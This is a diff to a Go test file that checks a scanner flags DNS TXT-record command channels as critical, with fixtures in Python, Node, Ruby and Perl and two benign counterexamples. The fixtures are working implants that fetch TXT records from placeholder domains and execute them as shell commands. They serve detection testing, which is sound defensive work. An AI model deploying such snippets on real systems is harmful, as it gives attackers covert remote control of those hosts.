@@ -41,3 +41,39 @@ func TestDNSExfil(t *testing.T) {
 		}
 	}
 }
+
+// TestDNSCommands: what a DNS answer carries (a TXT record) run as a command or code is a
+// command channel over DNS: critical, in each language, however the answer is passed along.
+// Resolvers that read TXT records to compare, print or configure run nothing they read.
+func TestDNSCommands(t *testing.T) {
+	found := map[string]struct{ path, text string }{
+		"py-resolve-b64":  {"/usr/lib/dnsutils/c.py", "import dns.resolver, base64, os, time\nwhile True:\n    ans = dns.resolver.resolve('q.t.example.net', 'TXT')\n    cmd = base64.b64decode(ans[0].to_text().strip('\"'))\n    os.system(cmd.decode())\n    time.sleep(30)\n"},
+		"py-query-chunks": {"/opt/.d/d.py", "import dns.resolver, subprocess\nr = dns.resolver.Resolver()\ndef fetch(n):\n    return r.query('%d.c.example.org' % n, 'TXT')[0].to_text()\nbuf = ''\nfor i in range(3):\n    a = r.query('%d.c.example.org' % i, 'TXT')\n    buf += a[0].to_text()\nout = subprocess.check_output(buf, shell=True)\n"},
+		"node-resolveTxt": {"/srv/app/lib/sync.js", "const dns = require('dns');\nconst { exec } = require('child_process');\ndns.resolveTxt('cmd.example.net', (err, records) => {\n  if (err) return;\n  exec(records.flat().join(''), () => {});\n});\n"},
+		"ruby-resolv":     {"/opt/r/r.rb", "require 'resolv'\nres = Resolv::DNS.new\nrecs = res.getresources('c.example.com', Resolv::DNS::Resource::IN::TXT)\ncmd = recs.map { |r| r.strings.join }.join\nsystem(cmd)\n"},
+		"perl-net-dns":    {"/usr/local/sbin/d.pl", "use Net::DNS;\nmy $r = Net::DNS::Resolver->new;\nmy $q = $r->query('c.example.org', 'TXT');\nmy $c = join('', ($q->answer)[0]->txtdata);\nsystem($c);\n"},
+	}
+	for name, tc := range found {
+		fs := scanFile(tc.path, tc.text)
+		ok := false
+		for _, f := range fs {
+			if f.Rule == RuleDNSExfil && f.Severity == audit.Critical {
+				ok = true
+			}
+		}
+		if !ok {
+			t.Errorf("%s: no critical %s\n%s", name, RuleDNSExfil, dump(fs))
+		}
+	}
+	clean := map[string]struct{ path, text string }{
+		"acme-check":  {"/usr/local/bin/acme-wait.py", "import dns.resolver, subprocess, time\ntoken = open('/run/acme/token').read().strip()\nwhile True:\n    vals = [r.to_text().strip('\"') for r in dns.resolver.resolve('_acme-challenge.example.com', 'TXT')]\n    if token in vals:\n        break\n    time.sleep(10)\nsubprocess.run(['certbot', 'renew'])\n"},
+		"spf-printer": {"/usr/local/bin/spf.js", "const dns = require('dns');\nconst { execSync } = require('child_process');\ndns.resolveTxt(process.argv[2], (err, recs) => {\n  console.log(recs.filter(r => r.join('').startsWith('v=spf1')));\n});\nexecSync('logger spf checked');\n"},
+	}
+	for name, tc := range clean {
+		for _, f := range scanFile(tc.path, tc.text) {
+			if f.Rule == RuleDNSExfil {
+				t.Errorf("%s: %s %s", name, f.Rule, f.Title)
+			}
+		}
+	}
+}
